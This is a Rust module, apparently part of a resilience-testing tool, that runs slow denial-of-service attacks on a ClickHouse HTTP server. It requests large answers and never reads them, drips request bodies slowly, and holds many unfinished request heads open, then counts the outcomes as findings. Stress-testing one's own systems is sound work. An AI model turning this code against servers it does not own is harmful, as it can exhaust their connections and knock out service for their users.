//! Connections to ClickHouse that go on for long: unread answers, slow bodies, unfinished heads.

use super::forms::PARAMETER_FORM;
use super::{AttackContext, answer};
use crate::attack::bombs::gzip;
use crate::attack::http::{Pace, status_of};
use std::sync::Arc;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;
use tokio::time::sleep;

/// Connections whose answers are not read, and the time for which they are held.
const READERS: usize = 24;
const HELD: Duration = Duration::from_secs(15);
/// Answers of 60 MB: held back until the query has ended, and streamed.
const UNREAD: [(&str, &str); 2] = [("held back", "1"), ("streamed", "0")];
/// Bodies that are sent slowly at the same time: with the answers above, more than the half of the
/// statements that run at once.
const SLOW: usize = 60;
const PACE: Pace = Pace {
    pieces: 20,
    pause: Duration::from_millis(500),
};
const SLOW_BYTES: usize = 4_000;
/// Path of an insert whose rows are the body.
const INSERT: &str = "/?query=INSERT+INTO+hostile_slow+FORMAT+TabSeparated";
/// Number of unfinished request heads: a tenth of the connections that there are.
const UNFINISHED: usize = 100;
const HEAD_BYTES: usize = 60 << 10;

/// Asks for long answers and reads their status only.
pub(in crate::attack::hostile) async fn unread(context: Arc<AttackContext>) {
    let query = "SELECT+repeat(%27x%27,1000)+FROM+numbers(60000)&http_send_timeout=600";
    loop {
        let mut held = Vec::new();
        for (way, waits) in UNREAD.into_iter().cycle().take(READERS) {
            let path = format!("/?query={query}&wait_end_of_query={waits}");
            let sent = context.with_login("GET", &path, &[], b"");
            if let Ok(mut stream) = context.analyst.connect().await
                && stream.write_all(&sent).await.is_ok()
            {
                held.push((way, stream));
            }
        }
        for (way, stream) in &mut held {
            let begun = format!("{way}: {}", status_of(stream).await);
            let what = "answers of ClickHouse that nobody reads";
            context.findings.count(what, &begun);
        }
        sleep(HELD).await;
    }
}

/// Sends bodies of each kind slowly, to their end.
pub(in crate::attack::hostile) async fn slow(context: Arc<AttackContext>) {
    let bodies = slow_requests(&context);
    loop {
        let table = "CREATE TABLE IF NOT EXISTS hostile_slow (a String) ENGINE = Null";
        context.query("POST", "/", table).await;
        let mut sending = JoinSet::new();
        for (kind, sent) in bodies.iter().cycle().take(SLOW) {
            let (context, kind, sent) = (Arc::clone(&context), *kind, sent.clone());
            sending.spawn_local(async move {
                let outcome = context.analyst.send_at(&sent, Some(PACE)).await;
                let outcome = format!("{kind}: {}", answer(&outcome));
                context
                    .findings
                    .count("slow bodies to ClickHouse", &outcome);
            });
        }
        while sending.join_next().await.is_some() {}
        sleep(context.pause).await;
    }
}

/// Requests with a body, by its kind.
fn slow_requests(context: &AttackContext) -> Vec<(&'static str, Vec<u8>)> {
    let text = format!("SELECT 1{}", " ".repeat(SLOW_BYTES));
    let rows = "x\n".repeat(SLOW_BYTES / 2);
    let packed = gzip(rows.as_bytes()).unwrap_or_default();
    let form = [("Content-Type", "multipart/form-data; boundary=b")];
    let encoding = [("Content-Encoding", "gzip")];
    vec![
        (
            "text",
            context.with_login("POST", "/", &[], text.as_bytes()),
        ),
        (
            "rows",
            context.with_login("POST", INSERT, &[], rows.as_bytes()),
        ),
        (
            "rows in gzip",
            context.with_login("POST", INSERT, &encoding, &packed),
        ),
        (
            "form",
            context.with_login("POST", "/", &form, PARAMETER_FORM.as_bytes()),
        ),
    ]
}

/// Sends request heads without an end and without a password.
pub(in crate::attack::hostile) async fn unfinished(context: Arc<AttackContext>) {
    let head = format!("GET /?query={}", "x".repeat(HEAD_BYTES));
    loop {
        let mut held = Vec::new();
        for _ in 0..UNFINISHED {
            if let Ok(mut stream) = context.analyst.connect().await
                && stream.write_all(head.as_bytes()).await.is_ok()
            {
                held.push(stream);
            }
        }
        context.findings.count(
            "unfinished heads to ClickHouse",
            &format!("{} at once", held.len()),
        );
        sleep(HELD).await;
    }
}
